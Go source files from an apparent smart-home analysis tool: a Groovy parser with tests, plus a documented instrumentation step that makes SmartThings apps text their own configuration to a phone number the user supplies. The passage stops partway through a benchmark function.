	if ifStmt.Else == nil {
		t.Fatal("else on next line not attached")
	}
}

func TestParseAssignments(t *testing.T) {
	s := mustParse(t, `
def f() {
    x = 1
    state.count = state.count + 1
    m["k"] = 2
    y += 3
    i++
}
`)
	f := s.Method("f")
	if len(f.Body.Stmts) != 5 {
		t.Fatalf("stmts = %d", len(f.Body.Stmts))
	}
	a1 := f.Body.Stmts[1].(*AssignStmt)
	if _, ok := a1.Target.(*PropertyGet); !ok {
		t.Errorf("state.count target = %#v", a1.Target)
	}
	a2 := f.Body.Stmts[2].(*AssignStmt)
	if _, ok := a2.Target.(*IndexGet); !ok {
		t.Errorf("index target = %#v", a2.Target)
	}
	a3 := f.Body.Stmts[3].(*AssignStmt)
	if a3.Op != PlusAssign {
		t.Errorf("op = %v", a3.Op)
	}
	a4, ok := f.Body.Stmts[4].(*AssignStmt)
	if !ok {
		t.Fatalf("i++ = %T", f.Body.Stmts[4])
	}
	if b, ok := a4.Value.(*Binary); !ok || b.Op != Plus {
		t.Errorf("i++ value = %#v", a4.Value)
	}
}

func TestParseMethodWithParams(t *testing.T) {
	s := mustParse(t, `
def collectConfigInfo(appname, devices, values) { }
private def helper(Map options = [:]) { }
`)
	m := s.Method("collectConfigInfo")
	if len(m.Params) != 3 {
		t.Fatalf("params = %d", len(m.Params))
	}
	h := s.Method("helper")
	if h == nil {
		t.Fatal("private def not parsed")
	}
	if len(h.Params) != 1 || h.Params[0].Default == nil {
		t.Errorf("helper params = %#v", h.Params)
	}
}

func TestParseImportSkipped(t *testing.T) {
	s := mustParse(t, "import groovy.transform.Field\ndef x = 1")
	if len(s.Stmts) != 1 {
		t.Fatalf("stmts = %d, want 1 (import skipped)", len(s.Stmts))
	}
}

func TestParseNewExpr(t *testing.T) {
	s := mustParse(t, `def f() { def d = new Date() }`)
	f := s.Method("f")
	ne, ok := f.Body.Stmts[0].(*DeclStmt).Init.(*NewExpr)
	if !ok || ne.Type != "Date" {
		t.Fatalf("new expr = %#v", f.Body.Stmts[0].(*DeclStmt).Init)
	}
}

func TestParseAsCast(t *testing.T) {
	s := mustParse(t, `def f() { def n = threshold as Integer }`)
	f := s.Method("f")
	c, ok := f.Body.Stmts[0].(*DeclStmt).Init.(*Call)
	if !ok || c.Method != "asType" {
		t.Fatalf("as cast = %#v", f.Body.Stmts[0].(*DeclStmt).Init)
	}
}

func TestParseTypedDeclaration(t *testing.T) {
	s := mustParse(t, `def f() { String s = "x"
int i = 0 }`)
	f := s.Method("f")
	d0, ok := f.Body.Stmts[0].(*DeclStmt)
	if !ok || d0.Name != "s" {
		t.Fatalf("typed decl = %#v", f.Body.Stmts[0])
	}
	d1, ok := f.Body.Stmts[1].(*DeclStmt)
	if !ok || d1.Name != "i" {
		t.Fatalf("typed decl = %#v", f.Body.Stmts[1])
	}
}

func TestParseErrorReporting(t *testing.T) {
	_, err := Parse("def f() { if (x { } }")
	if err == nil {
		t.Fatal("expected parse error")
	}
	if _, ok := err.(*ParseError); !ok {
		t.Fatalf("error type = %T", err)
	}
}

func TestParseArithmetic(t *testing.T) {
	s := mustParse(t, `def f() { def x = 1 + 2 * 3 - 4 / 2 }`)
	f := s.Method("f")
	// 1 + 2*3 - 4/2: top is Minus.
	top, ok := f.Body.Stmts[0].(*DeclStmt).Init.(*Binary)
	if !ok || top.Op != Minus {
		t.Fatalf("top = %#v", f.Body.Stmts[0].(*DeclStmt).Init)
	}
	add, ok := top.L.(*Binary)
	if !ok || add.Op != Plus {
		t.Fatalf("left = %#v", top.L)
	}
	mul, ok := add.R.(*Binary)
	if !ok || mul.Op != Star {
		t.Fatalf("add.R = %#v", add.R)
	}
}

func TestParsePrecedenceLogic(t *testing.T) {
	s := mustParse(t, `def f() { def x = a == 1 && b > 2 || c }`)
	top, ok := s.Method("f").Body.Stmts[0].(*DeclStmt).Init.(*Binary)
	if !ok || top.Op != OrOr {
		t.Fatalf("top = %#v", s.Method("f").Body.Stmts[0].(*DeclStmt).Init)
	}
	and, ok := top.L.(*Binary)
	if !ok || and.Op != AndAnd {
		t.Fatalf("top.L = %#v", top.L)
	}
}

func TestParseChainedPropertyAccess(t *testing.T) {
	s := mustParse(t, `def f() { def v = location.mode }`)
	pg, ok := s.Method("f").Body.Stmts[0].(*DeclStmt).Init.(*PropertyGet)
	if !ok || pg.Name != "mode" {
		t.Fatalf("prop = %#v", s.Method("f").Body.Stmts[0].(*DeclStmt).Init)
	}
	if id, ok := pg.Receiver.(*Ident); !ok || id.Name != "location" {
		t.Fatalf("receiver = %#v", pg.Receiver)
	}
}

func TestParseSingleStatementIfBody(t *testing.T) {
	s := mustParse(t, comfortTV)
	m := s.Method("turnOnWindow")
	ifStmt := m.Body.Stmts[0].(*IfStmt)
	if len(ifStmt.Then.Stmts) != 1 {
		t.Fatalf("then stmts = %d", len(ifStmt.Then.Stmts))
	}
	call := ifStmt.Then.Stmts[0].(*ExprStmt).X.(*Call)
	if call.Method != "on" {
		t.Errorf("call = %#v", call)
	}
	if recv, ok := call.Receiver.(*Ident); !ok || recv.Name != "window1" {
		t.Errorf("receiver = %#v", call.Receiver)
	}
}

func TestParseInstrumentedListing3(t *testing.T) {
	src := `
input "patchedphone", "phone", required: true, title: "Phone number?"
def updated() {
    def appname = "ComfortTV"
    def devices = [[devRefStr:"tv1", devRef:tv1], [devRefStr:"tSensor", devRef:tSensor]]
    def values = [[varStr:"threshold1", var:threshold1]]
    collectConfigInfo(appname, devices, values)
}
def collectConfigInfo(appname, devices, values) {
    def uri = "http://my.com/appname:${appname}/"
    devices.each { dev ->
        uri = uri + dev.devRefStr + ":" + dev.devRef.getId() + "/"
    }
    values.each { val ->
        uri = uri + val.varStr + ":" + val.var + "/"
    }
    sendSmsMessage(patchedphone, uri)
}
`
	s := mustParse(t, src)
	cci := s.Method("collectConfigInfo")
	if cci == nil || len(cci.Params) != 3 {
		t.Fatalf("collectConfigInfo = %#v", cci)
	}
	if len(FindCalls(s, "each")) != 2 {
		t.Errorf("each calls = %d", len(FindCalls(s, "each")))
	}
}

func TestMustParsePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("MustParse should panic on bad input")
		}
	}()
	MustParse("def f() {")
}

// TestNestedGStringEscapedDollar pins the shared escape buffer's stack
// discipline: a GString with an escaped dollar whose interpolation
// contains ANOTHER GString with an escaped dollar must not lose the
// outer's accumulated literal text.
func TestNestedGStringEscapedDollar(t *testing.T) {
	script, err := Parse("def m = \"\\$5 off: ${fmt(\"x\\$y\")}\"\n")
	if err != nil {
		t.Fatal(err)
	}
	decl, ok := script.Stmts[0].(*DeclStmt)
	if !ok {
		t.Fatalf("want DeclStmt, got %T", script.Stmts[0])
	}
	g, ok := decl.Init.(*GStringLit)
	if !ok {
		t.Fatalf("want GStringLit, got %T", decl.Init)
	}
	if len(g.Parts) != 2 || g.Parts[0].Text != "$5 off: " || g.Parts[1].Expr == nil {
		t.Fatalf("outer parts wrong: %+v", g.Parts)
	}
	call, ok := g.Parts[1].Expr.(*Call)
	if !ok || call.Method != "fmt" || len(call.Args) != 1 {
		t.Fatalf("inner call wrong: %+v", g.Parts[1].Expr)
	}
	inner, ok := call.Args[0].(*GStringLit)
	if !ok || len(inner.Parts) != 1 || inner.Parts[0].Text != "x$y" {
		t.Fatalf("inner gstring wrong: %+v", call.Args[0])
	}
}
