package groovy

import (
	"math/rand"
	"testing"
)

// corpusLike is a representative source exercised by the mutation tests.
const corpusLike = `
definition(name: "X", namespace: "n", author: "a", description: "d", category: "c")
input "tv1", "capability.switch", title: "Which TV?"
input "threshold1", "number", defaultValue: 30
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(tv1, "switch.on", onHandler)
    schedule("0 0 22 * * ?", nightly)
}
def onHandler(evt) {
    def t = tv1.currentValue("level")
    if ((evt.value == "on") && (t > threshold1)) {
        tv1.off()
    } else if (t < 5) {
        runIn(60, later)
    }
    switch (evt.value) {
        case "on": state.n = state.n + 1; break
        default: log.debug "other ${evt.value}"
    }
    [1, 2, 3].each { x -> state.sum = state.sum + x }
}
def later() { tv1.on() }
def nightly() { tv1.off() }
`

// TestParserNeverPanicsOnMutations: random byte-level mutations of a valid
// source must produce either a parse or an error — never a panic. This is
// the property the extractor relies on when users submit custom apps.
func TestParserNeverPanicsOnMutations(t *testing.T) {
	rng := rand.New(rand.NewSource(2024))
	base := []byte(corpusLike)
	alphabet := []byte("{}()[]\"'.,;:$ \nabcdef0123456789=<>!&|?-+*/")
	for trial := 0; trial < 3000; trial++ {
		src := append([]byte(nil), base...)
		for k := 0; k < 1+rng.Intn(6); k++ {
			switch rng.Intn(3) {
			case 0: // substitute
				src[rng.Intn(len(src))] = alphabet[rng.Intn(len(alphabet))]
			case 1: // delete
				i := rng.Intn(len(src))
				src = append(src[:i], src[i+1:]...)
			case 2: // insert
				i := rng.Intn(len(src))
				src = append(src[:i], append([]byte{alphabet[rng.Intn(len(alphabet))]}, src[i:]...)...)
			}
		}
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Fatalf("panic on mutated input: %v\nsource:\n%s", r, src)
				}
			}()
			_, _ = Parse(string(src))
		}()
	}
}

// TestParserNeverPanicsOnRandomInput: entirely random token soup.
func TestParserNeverPanicsOnRandomInput(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	words := []string{
		"def", "if", "else", "switch", "case", "default", "return", "{", "}",
		"(", ")", "[", "]", ",", ";", ":", ".", "==", "&&", "||", "!", "?",
		"input", "subscribe", "x", "y", "\"s\"", "'t'", "1", "2.5", "->",
		"each", "in", "for", "while", "true", "false", "null", "\n",
	}
	for trial := 0; trial < 2000; trial++ {
		n := 1 + rng.Intn(40)
		src := ""
		for i := 0; i < n; i++ {
			src += words[rng.Intn(len(words))] + " "
		}
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Fatalf("panic on random input: %v\nsource: %s", r, src)
				}
			}()
			_, _ = Parse(src)
		}()
	}
}

func TestDeeplyNestedExpressions(t *testing.T) {
	// Nested parens/brackets must not blow the stack at sane depths.
	src := "def f() { def x = "
	for i := 0; i < 200; i++ {
		src += "("
	}
	src += "1"
	for i := 0; i < 200; i++ {
		src += ")"
	}
	src += " }"
	if _, err := Parse(src); err != nil {
		t.Fatalf("deep nesting should parse: %v", err)
	}
}

func TestVeryLongStatementList(t *testing.T) {
	src := "def f() {\n"
	for i := 0; i < 5000; i++ {
		src += "    state.x = state.x + 1\n"
	}
	src += "}"
	s, err := Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Method("f").Body.Stmts) != 5000 {
		t.Errorf("stmts = %d", len(s.Method("f").Body.Stmts))
	}
}

func BenchmarkParseComfortTV(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := Parse(comfortTV); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkTokenize(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := Tokenize(corpusLike); err != nil {
			b.Fatal(err)
		}
	}
}
