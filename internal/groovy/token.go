// Package groovy implements a lexer, AST and recursive-descent parser for
// the subset of the Groovy language used by SmartThings SmartApps.
//
// SmartApps run in a sandbox that forbids almost all of Groovy's dynamic
// features (see the SmartThings code review guidelines), so the language
// accepted here is deliberately a subset: scripts are sequences of
// statements and method declarations; expressions cover literals
// (including GStrings with ${...} interpolation), map and list literals,
// closures, property access, index access, method calls (both
// parenthesised and paren-free "command" syntax such as
// `input "tv1", "capability.switch", title: "Which TV?"`), and the usual
// arithmetic, comparison, logical, ternary and elvis operators.
package groovy

import "fmt"

// Kind enumerates lexical token kinds.
type Kind int

// Token kinds.
const (
	EOF Kind = iota
	NEWLINE
	IDENT
	NUMBER  // integer or decimal literal
	STRING  // single-quoted string (no interpolation)
	GSTRING // double-quoted string; may contain ${...} interpolation

	// Keywords.
	KwDef
	KwIf
	KwElse
	KwSwitch
	KwCase
	KwDefault
	KwReturn
	KwTrue
	KwFalse
	KwNull
	KwFor
	KwWhile
	KwBreak
	KwContinue
	KwIn
	KwNew
	KwImport
	KwInstanceof

	// Punctuation and operators.
	LParen   // (
	RParen   // )
	LBrace   // {
	RBrace   // }
	LBracket // [
	RBracket // ]
	Comma    // ,
	Semi     // ;
	Colon    // :
	Dot      // .
	SafeDot  // ?.
	Arrow    // ->
	Range    // ..

	Assign      // =
	PlusAssign  // +=
	MinusAssign // -=
	StarAssign  // *=
	SlashAssign // /=

	Plus    // +
	Minus   // -
	Star    // *
	Slash   // /
	Percent // %
	Power   // **

	Eq      // ==
	NotEq   // !=
	Lt      // <
	LtEq    // <=
	Gt      // >
	GtEq    // >=
	Compare // <=>

	AndAnd // &&
	OrOr   // ||
	Not    // !

	Question // ?
	Elvis    // ?:

	Incr // ++
	Decr // --
)

var kindNames = map[Kind]string{
	EOF: "EOF", NEWLINE: "NEWLINE", IDENT: "IDENT", NUMBER: "NUMBER",
	STRING: "STRING", GSTRING: "GSTRING",
	KwDef: "def", KwIf: "if", KwElse: "else", KwSwitch: "switch",
	KwCase: "case", KwDefault: "default", KwReturn: "return",
	KwTrue: "true", KwFalse: "false", KwNull: "null", KwFor: "for",
	KwWhile: "while", KwBreak: "break", KwContinue: "continue",
	KwIn: "in", KwNew: "new", KwImport: "import", KwInstanceof: "instanceof",
	LParen: "(", RParen: ")", LBrace: "{", RBrace: "}",
	LBracket: "[", RBracket: "]", Comma: ",", Semi: ";", Colon: ":",
	Dot: ".", SafeDot: "?.", Arrow: "->", Range: "..",
	Assign: "=", PlusAssign: "+=", MinusAssign: "-=", StarAssign: "*=",
	SlashAssign: "/=",
	Plus:        "+", Minus: "-", Star: "*", Slash: "/", Percent: "%", Power: "**",
	Eq: "==", NotEq: "!=", Lt: "<", LtEq: "<=", Gt: ">", GtEq: ">=",
	Compare: "<=>", AndAnd: "&&", OrOr: "||", Not: "!",
	Question: "?", Elvis: "?:", Incr: "++", Decr: "--",
}

// String returns a human-readable name for the token kind.
func (k Kind) String() string {
	if s, ok := kindNames[k]; ok {
		return s
	}
	return fmt.Sprintf("Kind(%d)", int(k))
}

var keywords = map[string]Kind{
	"def": KwDef, "if": KwIf, "else": KwElse, "switch": KwSwitch,
	"case": KwCase, "default": KwDefault, "return": KwReturn,
	"true": KwTrue, "false": KwFalse, "null": KwNull, "for": KwFor,
	"while": KwWhile, "break": KwBreak, "continue": KwContinue,
	"in": KwIn, "new": KwNew, "import": KwImport, "instanceof": KwInstanceof,
}

// Pos is a position in the source text, 1-based. 32-bit fields keep
// tokens and AST nodes compact (a position is copied into every one).
type Pos struct {
	Line int32
	Col  int32
}

// String renders the position as "line:col".
func (p Pos) String() string { return fmt.Sprintf("%d:%d", p.Line, p.Col) }

// Token is a lexical token with its source text and position.
type Token struct {
	Kind Kind
	Text string // raw text; for STRING/GSTRING the unquoted content
	Pos  Pos
}

func (t Token) String() string {
	switch t.Kind {
	case IDENT, NUMBER, STRING, GSTRING:
		return fmt.Sprintf("%s(%q)", t.Kind, t.Text)
	default:
		return t.Kind.String()
	}
}
