package groovy

// Inspect traverses the AST rooted at n in depth-first order, calling f
// for every node. If f returns false for a node, its children are not
// visited. Nil nodes are skipped.
func Inspect(n Node, f func(Node) bool) {
	if n == nil || isNilNode(n) {
		return
	}
	if !f(n) {
		return
	}
	switch x := n.(type) {
	case *Ident, *StrLit, *NumLit, *BoolLit, *NullLit, *BreakStmt, *ContinueStmt:
	case *GStringLit:
		for _, p := range x.Parts {
			if p.Expr != nil {
				Inspect(p.Expr, f)
			}
		}
	case *ListLit:
		for _, e := range x.Elems {
			Inspect(e, f)
		}
	case *MapLit:
		for _, e := range x.Entries {
			Inspect(e.Key, f)
			Inspect(e.Value, f)
		}
	case *RangeLit:
		Inspect(x.Lo, f)
		Inspect(x.Hi, f)
	case *PropertyGet:
		Inspect(x.Receiver, f)
	case *IndexGet:
		Inspect(x.Receiver, f)
		Inspect(x.Index, f)
	case *Call:
		if x.Receiver != nil {
			Inspect(x.Receiver, f)
		}
		for _, a := range x.Args {
			Inspect(a, f)
		}
		for _, e := range x.Named {
			Inspect(e.Key, f)
			Inspect(e.Value, f)
		}
	case *ClosureExpr:
		for _, p := range x.Params {
			if p.Default != nil {
				Inspect(p.Default, f)
			}
		}
		Inspect(x.Body, f)
	case *Unary:
		Inspect(x.X, f)
	case *Binary:
		Inspect(x.L, f)
		Inspect(x.R, f)
	case *Ternary:
		Inspect(x.Cond, f)
		Inspect(x.Then, f)
		Inspect(x.Else, f)
	case *ElvisExpr:
		Inspect(x.Cond, f)
		Inspect(x.Else, f)
	case *NewExpr:
		for _, a := range x.Args {
			Inspect(a, f)
		}
	case *Block:
		for _, s := range x.Stmts {
			Inspect(s, f)
		}
	case *ExprStmt:
		Inspect(x.X, f)
	case *DeclStmt:
		if x.Init != nil {
			Inspect(x.Init, f)
		}
	case *AssignStmt:
		Inspect(x.Target, f)
		Inspect(x.Value, f)
	case *IfStmt:
		Inspect(x.Cond, f)
		Inspect(x.Then, f)
		if x.Else != nil {
			Inspect(x.Else, f)
		}
	case *SwitchStmt:
		Inspect(x.Subject, f)
		for _, c := range x.Cases {
			Inspect(c.Value, f)
			Inspect(c.Body, f)
		}
		if x.Default != nil {
			Inspect(x.Default, f)
		}
	case *ReturnStmt:
		if x.Value != nil {
			Inspect(x.Value, f)
		}
	case *ForStmt:
		if x.Iterable != nil {
			Inspect(x.Iterable, f)
		}
		if x.Init != nil {
			Inspect(x.Init, f)
		}
		if x.Cond != nil {
			Inspect(x.Cond, f)
		}
		if x.Post != nil {
			Inspect(x.Post, f)
		}
		Inspect(x.Body, f)
	case *WhileStmt:
		Inspect(x.Cond, f)
		Inspect(x.Body, f)
	case *MethodDecl:
		for _, p := range x.Params {
			if p.Default != nil {
				Inspect(p.Default, f)
			}
		}
		Inspect(x.Body, f)
	}
}

// isNilNode guards against typed-nil interface values.
func isNilNode(n Node) bool {
	switch v := n.(type) {
	case *Block:
		return v == nil
	case *IfStmt:
		return v == nil
	}
	return false
}

// InspectScript traverses every top-level statement of a script.
func InspectScript(s *Script, f func(Node) bool) {
	for _, st := range s.Stmts {
		Inspect(st, f)
	}
}

// FindCalls returns every call (at any nesting depth, including inside
// closures) whose method name matches name.
func FindCalls(s *Script, name string) []*Call {
	var out []*Call
	InspectScript(s, func(n Node) bool {
		if c, ok := n.(*Call); ok && c.Method == name {
			out = append(out, c)
		}
		return true
	})
	return out
}

// NamedArg returns the named argument value for key, or nil.
func (c *Call) NamedArg(key string) Expr {
	for _, e := range c.Named {
		if k, ok := e.Key.(*StrLit); ok && k.Value == key {
			return e.Value
		}
	}
	return nil
}
