// Package instrument implements HomeGuard's SmartApp code instrumentation
// (Sec. VII, Listing 3): a fully automatic source-to-source transformation
// that collects the configuration information (device bindings and user
// values) inside updated() and ships it to the HomeGuard frontend app as a
// URI over SMS or HTTP. It also provides the URI codec.
package instrument

import (
	"fmt"
	"net/url"
	"sort"
	"strings"

	"homeguard/internal/groovy"
	"homeguard/internal/symexec"
)

// Instrument rewrites a SmartApp source per Listing 3:
//   - adds the patchedphone input,
//   - inserts configuration-collection code into updated() (creating the
//     method when absent),
//   - appends the collectConfigInfo helper.
//
// The transformation reuses the rule extractor's preference scan to find
// the app name and every input, so it is completely automatic.
func Instrument(src string) (string, error) {
	script, err := groovy.Parse(src)
	if err != nil {
		return "", fmt.Errorf("instrument: %w", err)
	}
	info := symexec.ScanPreferences(script)

	var devItems, valItems []string
	for _, in := range info.Inputs {
		if in.IsDevice() {
			devItems = append(devItems, fmt.Sprintf("[devRefStr:%q, devRef:%s]", in.Name, in.Name))
		} else {
			valItems = append(valItems, fmt.Sprintf("[varStr:%q, var:%s]", in.Name, in.Name))
		}
	}
	inserted := fmt.Sprintf(`    // inserted by HomeGuard
    def appname = %q
    def devices = [%s]
    def values = [%s]
    collectConfigInfo(appname, devices, values)
`, info.Name, strings.Join(devItems, ", "), strings.Join(valItems, ", "))

	lines := strings.Split(src, "\n")

	// Insert the collection code right after updated()'s opening brace.
	// Splitting at the brace's column handles single-line bodies like
	// `def updated() { unsubscribe(); initialize() }`.
	if m := script.Method("updated"); m != nil {
		pos := m.Body.Position() // 1-based line/col of '{'
		line := lines[pos.Line-1]
		col := int(pos.Col)
		if col > len(line) {
			col = len(line)
		}
		head := line[:col] // includes the '{'
		tail := line[col:]
		out := make([]string, 0, len(lines)+8)
		out = append(out, lines[:pos.Line-1]...)
		out = append(out, head, inserted+tail)
		out = append(out, lines[pos.Line:]...)
		lines = out
	} else {
		lines = append(lines,
			"def updated() {",
			inserted,
			"}")
	}

	var sb strings.Builder
	sb.WriteString("// Instrumented by HomeGuard (configuration collection)\n")
	sb.WriteString(`input "patchedphone", "phone", required: true, title: "Phone number?"` + "\n")
	sb.WriteString(strings.Join(lines, "\n"))
	sb.WriteString(`
def collectConfigInfo(appname, devices, values) {
    def uri = "homeguard://appname:${appname}/"
    devices.each { dev ->
        uri = uri + dev.devRefStr + ":" + dev.devRef.getId() + "/"
    }
    values.each { val ->
        uri = uri + val.varStr + ":" + val.var + "/"
    }
    sendSmsMessage(patchedphone, uri)
}
`)
	instrumented := sb.String()
	// The instrumented app must still parse.
	if _, err := groovy.Parse(instrumented); err != nil {
		return "", fmt.Errorf("instrument: output does not parse: %w", err)
	}
	return instrumented, nil
}

// ConfigInfo is the decoded configuration payload.
type ConfigInfo struct {
	AppName string
	Devices map[string]string // input name -> device ID
	Values  map[string]string // input name -> raw value
	// Order preserves the URI segment order for round-tripping.
	Order []string
}

// EncodeConfigURI builds the HomeGuard config URI
// (homeguard://appname:X/dev:ID/.../var:value/...).
func EncodeConfigURI(appName string, devices, values map[string]string) string {
	var sb strings.Builder
	sb.WriteString("homeguard://appname:")
	sb.WriteString(url.PathEscape(appName))
	sb.WriteString("/")
	for _, k := range sortedKeys(devices) {
		sb.WriteString(url.PathEscape(k))
		sb.WriteString(":")
		sb.WriteString(url.PathEscape(devices[k]))
		sb.WriteString("/")
	}
	for _, k := range sortedKeys(values) {
		sb.WriteString(url.PathEscape(k))
		sb.WriteString(":")
		sb.WriteString(url.PathEscape(values[k]))
		sb.WriteString("/")
	}
	return sb.String()
}

func sortedKeys(m map[string]string) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// ParseConfigURI decodes a config URI produced by EncodeConfigURI or by
// the instrumented app. Device IDs are recognised as segments whose value
// looks like a device identifier; the caller disambiguates using the app's
// input declarations via Classify.
func ParseConfigURI(uri string) (*ConfigInfo, error) {
	const scheme = "homeguard://"
	if !strings.HasPrefix(uri, scheme) {
		return nil, fmt.Errorf("instrument: bad scheme in %q", uri)
	}
	body := strings.TrimPrefix(uri, scheme)
	segs := strings.Split(strings.Trim(body, "/"), "/")
	info := &ConfigInfo{Devices: map[string]string{}, Values: map[string]string{}}
	for i, seg := range segs {
		colon := strings.IndexByte(seg, ':')
		if colon < 0 {
			return nil, fmt.Errorf("instrument: bad segment %q", seg)
		}
		key, err := url.PathUnescape(seg[:colon])
		if err != nil {
			return nil, fmt.Errorf("instrument: bad key in %q", seg)
		}
		val, err := url.PathUnescape(seg[colon+1:])
		if err != nil {
			return nil, fmt.Errorf("instrument: bad value in %q", seg)
		}
		if i == 0 {
			if key != "appname" {
				return nil, fmt.Errorf("instrument: first segment must be appname, got %q", key)
			}
			info.AppName = val
			continue
		}
		info.Order = append(info.Order, key)
		// Provisionally store everything in Values; Classify moves device
		// bindings based on input declarations.
		info.Values[key] = val
	}
	return info, nil
}

// Classify splits the parsed segments into device bindings and values
// using the app's input declarations.
func (c *ConfigInfo) Classify(app symexec.AppInfo) {
	for name, v := range c.Values {
		if in := app.Input(name); in != nil && in.IsDevice() {
			c.Devices[name] = v
			delete(c.Values, name)
		}
	}
}
