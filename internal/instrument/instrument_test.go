package instrument

import (
	"strings"
	"testing"

	"homeguard/internal/groovy"
	"homeguard/internal/symexec"
)

const listing1 = `
definition(name: "ComfortTV", namespace: "repro", author: "x",
    description: "Open the window when the TV turns on and it is hot.", category: "Convenience")
input "tv1", "capability.switch", title: "Which TV?"
input "tSensor", "capability.temperatureMeasurement"
input "threshold1", "number", title: "Higher than?"
input "window1", "capability.switch"
def installed() {
    subscribe(tv1, "switch", onHandler)
}
def updated() {
    unsubscribe()
    subscribe(tv1, "switch", onHandler)
}
def onHandler(evt) {
    def t = tSensor.currentValue("temperature")
    if ((evt.value == "on") && (t > threshold1)) turnOnWindow()
}
def turnOnWindow() {
    if (window1.currentSwitch == "off")
        window1.on()
}
`

func TestInstrumentListing3Shape(t *testing.T) {
	out, err := Instrument(listing1)
	if err != nil {
		t.Fatalf("Instrument: %v", err)
	}
	// Inserted pieces of Listing 3.
	for _, want := range []string{
		`input "patchedphone", "phone", required: true`,
		`def appname = "ComfortTV"`,
		`devRefStr:"tv1", devRef:tv1`,
		`devRefStr:"tSensor", devRef:tSensor`,
		`devRefStr:"window1", devRef:window1`,
		`varStr:"threshold1", var:threshold1`,
		`collectConfigInfo(appname, devices, values)`,
		`def collectConfigInfo(appname, devices, values)`,
		`sendSmsMessage(patchedphone, uri)`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("instrumented source missing %q", want)
		}
	}
}

func TestInstrumentedSourceParses(t *testing.T) {
	out, err := Instrument(listing1)
	if err != nil {
		t.Fatal(err)
	}
	script, err := groovy.Parse(out)
	if err != nil {
		t.Fatalf("instrumented source does not parse: %v", err)
	}
	if script.Method("collectConfigInfo") == nil {
		t.Error("collectConfigInfo method missing")
	}
	// Original behaviour preserved.
	if script.Method("onHandler") == nil || script.Method("turnOnWindow") == nil {
		t.Error("original methods lost")
	}
	info := symexec.ScanPreferences(script)
	if info.Input("patchedphone") == nil {
		t.Error("patchedphone input missing")
	}
}

func TestInstrumentedRulesUnchanged(t *testing.T) {
	// Instrumentation must not alter the extracted automation rules.
	before, err := symexec.Extract(listing1, "")
	if err != nil {
		t.Fatal(err)
	}
	out, err := Instrument(listing1)
	if err != nil {
		t.Fatal(err)
	}
	after, err := symexec.Extract(out, "")
	if err != nil {
		t.Fatal(err)
	}
	// The instrumented app adds a sendSmsMessage sink inside updated()'s
	// collection path but no subscription-driven rules change.
	var autoBefore, autoAfter int
	for _, r := range before.Rules.Rules {
		if r.Trigger.Subject != "time" {
			autoBefore++
		}
	}
	for _, r := range after.Rules.Rules {
		if r.Trigger.Subject != "time" && r.Action.Command != "sendSmsMessage" {
			autoAfter++
		}
	}
	if autoBefore != autoAfter {
		t.Errorf("automation rules changed: before=%d after=%d", autoBefore, autoAfter)
	}
}

func TestInstrumentAppWithoutUpdated(t *testing.T) {
	src := `
definition(name: "NoUpdated", namespace: "x", author: "x", description: "d", category: "c")
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch", h) }
def h(evt) { }
`
	out, err := Instrument(src)
	if err != nil {
		t.Fatal(err)
	}
	script, err := groovy.Parse(out)
	if err != nil {
		t.Fatalf("does not parse: %v", err)
	}
	if script.Method("updated") == nil {
		t.Error("updated() should have been created")
	}
}

func TestConfigURIRoundTrip(t *testing.T) {
	devices := map[string]string{
		"tv1":     "0e0b1111-2222-3333-4444-55556666741b",
		"window1": "aaaa1111-2222-3333-4444-555566667777",
	}
	values := map[string]string{"threshold1": "30"}
	uri := EncodeConfigURI("ComfortTV", devices, values)
	if !strings.HasPrefix(uri, "homeguard://appname:ComfortTV/") {
		t.Fatalf("uri = %q", uri)
	}
	info, err := ParseConfigURI(uri)
	if err != nil {
		t.Fatal(err)
	}
	if info.AppName != "ComfortTV" {
		t.Errorf("app = %q", info.AppName)
	}
	// Before classification everything is in Values.
	if info.Values["tv1"] != devices["tv1"] || info.Values["threshold1"] != "30" {
		t.Errorf("values = %v", info.Values)
	}
	script := groovy.MustParse(listing1)
	info.Classify(symexec.ScanPreferences(script))
	if info.Devices["tv1"] != devices["tv1"] {
		t.Errorf("devices after classify = %v", info.Devices)
	}
	if _, still := info.Values["tv1"]; still {
		t.Error("tv1 should have moved to Devices")
	}
	if info.Values["threshold1"] != "30" {
		t.Errorf("threshold1 = %q", info.Values["threshold1"])
	}
}

func TestParseConfigURIErrors(t *testing.T) {
	if _, err := ParseConfigURI("http://x/"); err == nil {
		t.Error("bad scheme should fail")
	}
	if _, err := ParseConfigURI("homeguard://nope:x/"); err == nil {
		t.Error("missing appname should fail")
	}
	if _, err := ParseConfigURI("homeguard://appname:A/garbage/"); err == nil {
		t.Error("segment without colon should fail")
	}
}

func TestEncodeEscapesSpecials(t *testing.T) {
	uri := EncodeConfigURI("My App/2", nil, map[string]string{"msg": "a:b/c"})
	info, err := ParseConfigURI(uri)
	if err != nil {
		t.Fatal(err)
	}
	if info.AppName != "My App/2" || info.Values["msg"] != "a:b/c" {
		t.Errorf("round trip: %+v", info)
	}
}
