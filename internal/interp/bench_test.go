package interp

import (
	"testing"

	"homeguard/internal/envmodel"
	"homeguard/internal/platform"
)

func BenchmarkInstallComfortTV(b *testing.B) {
	for i := 0; i < b.N; i++ {
		h := platform.NewHome(1)
		h.AddDevice(&platform.Device{ID: "dev-tv", Capabilities: []string{"switch"}, Type: envmodel.TV})
		h.AddDevice(&platform.Device{ID: "dev-window", Capabilities: []string{"switch"}, Type: envmodel.WindowOpener})
		h.AddDevice(&platform.Device{ID: "dev-temp", Capabilities: []string{"temperatureMeasurement"}})
		cfg := NewConfig().
			Bind("tv1", "dev-tv").Bind("tSensor", "dev-temp").Bind("window1", "dev-window").
			Set("threshold1", 30)
		if _, err := Install(h, comfortTVSrc, cfg); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkHandlerDispatch(b *testing.B) {
	h := platform.NewHome(1)
	h.AddDevice(&platform.Device{ID: "dev-tv", Capabilities: []string{"switch"}, Type: envmodel.TV})
